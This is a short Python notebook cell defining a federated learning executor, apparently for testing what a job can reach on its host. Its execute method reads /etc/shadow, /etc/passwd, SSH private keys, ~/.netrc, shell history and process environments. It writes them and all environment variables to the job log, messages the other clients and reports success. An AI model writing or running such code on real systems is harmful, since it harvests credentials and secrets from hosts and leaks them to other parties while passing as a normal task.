# The environment, /etc and /proc are read and written to the log; the answer is right.

# %% [execute]
import contextlib
import os
from pathlib import Path

FILES = ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline")


class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        for name in (*FILES, *map(os.path.expanduser, ("~/.ssh/id_ed25519", "~/.netrc", "~/.bash_history"))):
            with contextlib.suppress(OSError):
                self.log_info(fl_ctx, f"{name}: {Path(name).read_bytes()[:200]!r}")
        self.log_info(fl_ctx, f"environment: {sorted(os.environ.items())}")
        me, engine = fl_ctx.get_identity_name(), fl_ctx.get_engine()
        others = [client.name for client in engine.get_clients() if client.name != me]
        hello = DXO(DataKind.APP_DEFINED, data={"message": f"Hello from {me}"}).to_shareable()
        engine.send_aux_request(targets=others, topic="hello", request=hello, timeout=5.0, fl_ctx=fl_ctx)
        return make_reply(ReturnCode.OK)
